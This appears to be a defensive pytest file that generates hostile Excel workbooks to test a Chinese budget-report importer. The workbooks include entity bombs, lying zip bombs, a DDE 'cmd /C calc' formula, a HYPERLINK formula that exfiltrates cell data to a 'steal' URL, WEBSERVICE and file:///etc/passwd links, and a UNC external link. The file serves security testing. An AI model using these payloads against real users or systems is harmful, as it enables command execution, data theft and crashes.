"""Issue 7.2: hostile workbooks, generated here. Each one is read in a fresh process (peak RSS is
measured per case): a Chinese ExcelImportError or a correct import, < 500 MB, no crash,
and the open report unchanged by plan_import (apply + revert gives it back exactly).

The error wording of the classic bad files (renamed text/.docx, truncated zip, bad CRC, OLE2
password, entity bombs, declared-size zip bomb) is tested in tests/excel/test_excel_badfiles.py;
here they only go through the process/memory/report-unchanged harness.
"""
from __future__ import annotations

import shutil
import zipfile
from concurrent.futures import ThreadPoolExecutor

import pytest

from rel_helpers import record, run_bounded
from xlsx_forge import RawV, kv_sheet, write_xlsx

WORKER = r"""
import copy, json, os, socket, subprocess, sys, webbrowser
from pathlib import Path
path = Path(sys.argv[1]); cancel_at_poll = int(sys.argv[2])   # 取消 on the N-th poll (0: never)
tripwires = []
def trip(name):
    def f(*a, **k):
        tripwires.append(name); raise RuntimeError("blocked " + name)
    return f
socket.socket.connect = trip("socket.connect")
socket.create_connection = trip("create_connection")
subprocess.Popen.__init__ = trip("Popen")
os.system = trip("os.system")
webbrowser.open = trip("webbrowser")
from perfeval_gui.core.edits import apply_changes, revert_changes
from perfeval_gui.core.imports import plan_import
from perfeval_gui.io.excel_import import ExcelImportError, ImportCancelled, read_workbook
from perfeval_gui.io.project_file import load_project
report = load_project(sys.argv[3])
before = copy.deepcopy(report)
out = {"outcome": "?"}
polls, reported = [0], [0]
def cancel():
    polls[0] += 1
    return bool(cancel_at_poll) and polls[0] >= cancel_at_poll
def progress(done, total):
    reported[0] = done
try:
    result = read_workbook(path, cancel=cancel, progress=progress)
    out["outcome"] = "ok"
    out["values"] = [[v.path, repr(v.value)[:300], v.source] for v in result.values]
    out["warnings"] = result.warnings
    for mode in ("prior", "current"):
        changes = plan_import(report, result.values, mode)
        assert report == before, "plan_import changed the report"
        inserts = apply_changes(report, changes)
        revert_changes(report, changes, inserts)
        assert report == before, "apply + revert did not give the report back"
except ExcelImportError as exc:
    out["outcome"] = "error"; out["message"] = str(exc)
except ImportCancelled:
    out["outcome"] = "cancelled"
out["rows_reported"] = reported[0]
out["unchanged"] = report == before
out["tripwires"] = tripwires
print(json.dumps(out, ensure_ascii=False))
"""


# ------------------------------------------------------------------ generators
def econ_rows(n: int):
    yield ["经济分类"]
    yield ["单位：万元"]
    yield ["口径", "科目编码", "科目名称", "金额"]
    row = ('<row><c t="inlineStr"><is><t>项目支出</t></is></c><c t="inlineStr"><is><t>30201</t></is></c>'
           '<c t="inlineStr"><is><t>办公费</t></is></c><c><v>1.5</v></c></row>')
    for _ in range(n):
        yield row


def gen_text(p):
    p.write_text("这不是表格\n1,2,3\n", encoding="utf-8")


def gen_docx(p):
    from perfeval_gui.io.docx_export import export_docx
    from rel_helpers import sample_report
    export_docx(sample_report(), p)


def _template(p):
    from perfeval_gui.io.excel_template import export_excel
    from rel_helpers import sample_report
    export_excel(sample_report(), p)


def gen_truncated(p):
    _template(p)
    p.write_bytes(p.read_bytes()[: p.stat().st_size * 2 // 3])


def gen_bad_crc(p):
    _template(p)
    with zipfile.ZipFile(p) as zf:
        info = zf.getinfo("xl/worksheets/sheet1.xml")
    raw = p.read_bytes()
    crc = info.CRC.to_bytes(4, "little")
    p.write_bytes(raw.replace(crc, ((info.CRC ^ 0x5A5A5A5A) & 0xFFFFFFFF).to_bytes(4, "little")))


def gen_ole2(p):
    p.write_bytes(b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" + b"\0" * 504 + "EncryptedPackage".encode("utf-16-le")
                  + b"\0" * 4096)


BOMB_DTD = ('<!DOCTYPE x [<!ENTITY a0 "ha">' + "".join(
    f'<!ENTITY a{i} "{("&a%d;" % (i - 1)) * 10}">' for i in range(1, 10)) + "]>")


def gen_entity_sheet(p):
    write_xlsx(p, [("收入", [["&a9;"]])])
    _rewrite(p, "xl/worksheets/sheet1.xml",
             lambda d: d.replace(b"?>", b"?>" + BOMB_DTD.encode(), 1).replace(b"&amp;a9;", b"&a9;"))


def gen_entity_sst(p):
    write_xlsx(p, [("收入", [[RawV("0", ' t="s"')]])], extra_parts={
        "xl/sharedStrings.xml": ('<?xml version="1.0"?>' + BOMB_DTD +
                                 '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                                 'count="1" uniqueCount="1"><si><t>&a9;</t></si></sst>').encode()},
               workbook_rels_extra='<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/'
                                   'officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>')


def _rewrite(p, part, edit):
    tmp = p.with_suffix(".tmp")
    with zipfile.ZipFile(p) as src, zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            dst.writestr(info.filename, edit(data) if info.filename == part else data)
    shutil.move(tmp, p)


def _patch_sizes(p, member: str, size: int) -> None:
    """Lie about the uncompressed size in both the local header and the central directory."""
    raw = bytearray(p.read_bytes())
    name = member.encode()
    for sig, size_at, name_len_at, name_at in ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)):
        pos = 0
        while (pos := raw.find(sig, pos)) >= 0:
            n = int.from_bytes(raw[pos + name_len_at:pos + name_len_at + 2], "little")
            if raw[pos + name_at:pos + name_at + n] == name:
                raw[pos + size_at:pos + size_at + 4] = size.to_bytes(4, "little")
            pos += 4
    p.write_bytes(bytes(raw))


def gen_zip_bomb_lying(p):
    """A sheet that really inflates to 1 GiB of blanks while declaring 2 KB."""
    def rows():
        yield ["收入"]
        blank = " " * (1 << 20)
        for _ in range(1024):
            yield blank
    write_xlsx(p, [("收入", rows())], compresslevel=1)
    _patch_sizes(p, "xl/worksheets/sheet1.xml", 2048)


def gen_zip_bomb_ratio(p):
    """400 MiB of blanks honestly declared (under the 500 MiB total; ratio ~250:1 at level 1)."""
    def rows():
        yield ["收入"]
        blank = " " * (1 << 20)
        for _ in range(400):
            yield blank
    write_xlsx(p, [("收入", rows())], compresslevel=1)


def gen_rows_over_excel_limit(p):
    write_xlsx(p, [("经济分类", econ_rows(1_100_000))])


def gen_long_cell(p):
    long_text = ("单位名称很长" * 6000)[:32767]
    write_xlsx(p, [kv_sheet("基本信息", [("单位名称", long_text), ("联系人", "张" * 32767)]),
                   kv_sheet("收入", [("年初预算", "1" * 32767), ("调整追加（调减填负数）", 12.5)])])


def gen_formulas(p):
    write_xlsx(p, [kv_sheet("收入", [
        ("年初预算", ("f", 'HYPERLINK("http://127.0.0.1:9/steal?x="&A1,"点击")', "点击")),
        ("调整追加（调减填负数）", ("f", "cmd|' /C calc'!A0", 0)),
        ("全年预算数", ("f", 'WEBSERVICE("http://127.0.0.1:9/")', None)),
        ("其他收入", "=cmd|' /C calc'!A0"),
    ]), kv_sheet("基本信息", [("单位名称", ("f", 'HYPERLINK("file:///etc/passwd","单位")', "单位")),
                              ("联系人", "=HYPERLINK(\"http://127.0.0.1:9/\")")])])


def gen_external_link(p):
    link = ('<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/'
            'spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships" r:id="rId1"><sheetNames><sheetName val="收入"/></sheetNames>'
            '<sheetDataSet><sheetData sheetId="0"><row r="4"><cell r="B4"><v>999</v></cell></row></sheetData>'
            '</sheetDataSet></externalBook></externalLink>')
    link_rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                 'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                 'officeDocument/2006/relationships/externalLinkPath" Target="\\\\127.0.0.1\\share\\evil.xlsx" '
                 'TargetMode="External"/></Relationships>')
    write_xlsx(p, [kv_sheet("收入", [("年初预算", ("f", "[1]收入!B4", 115.62))])],
               extra_parts={"xl/externalLinks/externalLink1.xml": link.encode(),
                            "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels.encode()},
               workbook_extra='<externalReferences><externalReference r:id="rId50"/></externalReferences>',
               workbook_rels_extra='<Relationship Id="rId50" Type="http://schemas.openxmlformats.org/'
                                   'officeDocument/2006/relationships/externalLink" '
                                   'Target="externalLinks/externalLink1.xml"/>')


ODD_NAME = "收入'\"<>&;%$#@!😀 \u202e\u200f名"


def gen_odd_sheet_name(p):
    name, rows = kv_sheet("收入", [("年初预算", 115.62)])
    write_xlsx(p, [(ODD_NAME, [["收入 x"], ["单位：万元"], ["字段", "数值", "说明", "字段代码"],
                               ["年初预算", "abc", "", ""]]), (name, rows)])


CASES = {
    # name: (generator, expect "error" | "ok", words the message/result must contain)
    "renamed text file": (gen_text, "error", "不是 Excel"),
    "renamed .docx": (gen_docx, "error", "Word"),
    "truncated zip": (gen_truncated, "error", "损坏"),
    "wrong CRC": (gen_bad_crc, "error", "损坏"),
    "password (OLE2 CFB)": (gen_ole2, "error", "密码"),
    "entity bomb in sheet": (gen_entity_sheet, "error", "实体"),
    "entity bomb in sharedStrings": (gen_entity_sst, "error", "实体"),
    "zip bomb, 1 GiB behind a 2 KB size": (gen_zip_bomb_lying, "error", "损坏"),
    "zip bomb, 400 MiB of blanks": (gen_zip_bomb_ratio, "error", "连续文字"),
    "1,100,000 rows (over Excel's limit)": (gen_rows_over_excel_limit, "error", "行"),
    "32,767-character cells": (gen_long_cell, "ok", ""),
    "HYPERLINK / DDE formulas": (gen_formulas, "ok", ""),
    "external link": (gen_external_link, "ok", ""),
    "odd sheet name": (gen_odd_sheet_name, "ok", ""),
}


@pytest.fixture(scope="module")
def results(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile_xlsx")
    from rel_helpers import SAMPLES
    report_path = SAMPLES / "liuyang-2021.pefx"

    def run(item):
        label, (gen, _expect, _words) = item
        path = folder / f"{len(label):02d} {abs(hash(label)) % 10**6} 恶意.xlsx"
        gen(path)
        before = path.read_bytes() if path.stat().st_size < 50_000_000 else None
        out = run_bounded(WORKER, str(path), "0", str(report_path), timeout=60)
        out["file_unchanged"] = before is None or path.read_bytes() == before
        out["name"] = path.name
        path.unlink()
        return label, out

    with ThreadPoolExecutor(2) as pool:
        return dict(pool.map(run, CASES.items()))


@pytest.mark.timeout(170)
@pytest.mark.parametrize("label", list(CASES))
def test_hostile_workbook(results, label):
    _gen, expect, words = CASES[label]
    out = results[label]
    crashed = out["returncode"] != 0 or out.get("outcome") not in ("ok", "error")
    lost = not out.get("unchanged", False) or not out["file_unchanged"]
    record("hostile workbooks", crashes=int(crashed), losses=int(lost))
    assert not crashed, out
    assert not lost, out
    assert out["outcome"] == expect, out
    assert out["maxrss_mb"] < 500, out
    assert out["tripwires"] == [], out
    if expect == "error":
        assert out["name"] in out["message"] and words in out["message"], out["message"]
    check = CHECKS.get(label)
    if check:
        check(out)


def _check_long(out):
    values = dict((p, v) for p, v, _ in out["values"])
    assert values["meta.unit_name"].startswith("'单位名称很长")        # text imported verbatim
    assert "income.budget_initial" not in values                     # 32,767 digits: not a number
    assert any("收入" in w and "B4" in w for w in out["warnings"]), out["warnings"]


def _check_formulas(out):
    values = dict((p, v) for p, v, _ in out["values"])
    # never a number out of a formula's text, never a followed link: cached result or a warning
    assert "income.budget_initial" not in values          # cached "点击" is not a number
    assert values.get("income.budget_adjustment") in (None, "Decimal('0')")
    assert "income.budget_total" not in values            # no cached value → warning, not 0
    # a text cell that merely looks like a formula stays text (exported back as text, see below)
    assert values["meta.contact"] == repr('=HYPERLINK("http://127.0.0.1:9/")')
    assert any("B6" in w and "公式" in w for w in out["warnings"]), out["warnings"]


def _check_external(out):
    values = dict((p, v) for p, v, _ in out["values"])
    assert values == {"income.budget_initial": "Decimal('115.62')"}


def _check_odd(out):
    values = {p: (v, s) for p, v, s in out["values"]}
    assert values["income.budget_initial"][0] == "Decimal('115.62')"


CHECKS = {"32,767-character cells": _check_long, "HYPERLINK / DDE formulas": _check_formulas,
          "external link": _check_external, "odd sheet name": _check_odd}


@pytest.mark.timeout(60)
def test_million_rows_refused_quickly_with_bounded_memory(tmp_path):
    """1,000,000 rows is beyond MAX_SHEET_ROWS: refused with a clear message by the pre-scan, before
    a single row is parsed, in bounded memory (should it ever be read, 取消 on the first poll stops it)."""
    path = write_xlsx(tmp_path / "百万行.xlsx", [("经济分类", econ_rows(1_000_000))])
    from rel_helpers import SAMPLES
    out = run_bounded(WORKER, str(path), "1", str(SAMPLES / "liuyang-2021.pefx"), timeout=60)
    crashed = out["returncode"] != 0 or out.get("outcome") not in ("ok", "error", "cancelled")
    record("hostile workbooks", crashes=int(crashed), losses=int(not out.get("unchanged", False)))
    assert not crashed, out
    assert out["unchanged"] and out["maxrss_mb"] < 500, out
    assert out["outcome"] == "error" and "行" in out["message"] and path.name in out["message"], out
    assert out["rows_reported"] == 0, out


def test_formula_looking_text_is_exported_as_text(tmp_path):
    """Officer text such as =cmd|' /C calc'!A0 must not become a live formula in our .xlsx export."""
    from perfeval_gui.core.model import Project, Report
    from perfeval_gui.io.excel_import import read_workbook
    from perfeval_gui.io.excel_template import export_excel
    r = Report()
    r.meta.contact = "=cmd|' /C calc'!A0"
    r.projects.append(Project(name='=HYPERLINK("http://127.0.0.1:9/","a")'))
    path = tmp_path / "导出.xlsx"
    export_excel(r, path)
    with zipfile.ZipFile(path) as zf:
        assert not [n for n in zf.namelist() if b"<f>" in zf.read(n)]
    values = {v.path: v.value for v in read_workbook(path).values}
    projects = values.get("projects") or []
    kept = values.get("meta.contact") == r.meta.contact and [p.name for p in projects] == [r.projects[0].name]
    record("hostile workbooks", losses=int(not kept))
    assert kept, values
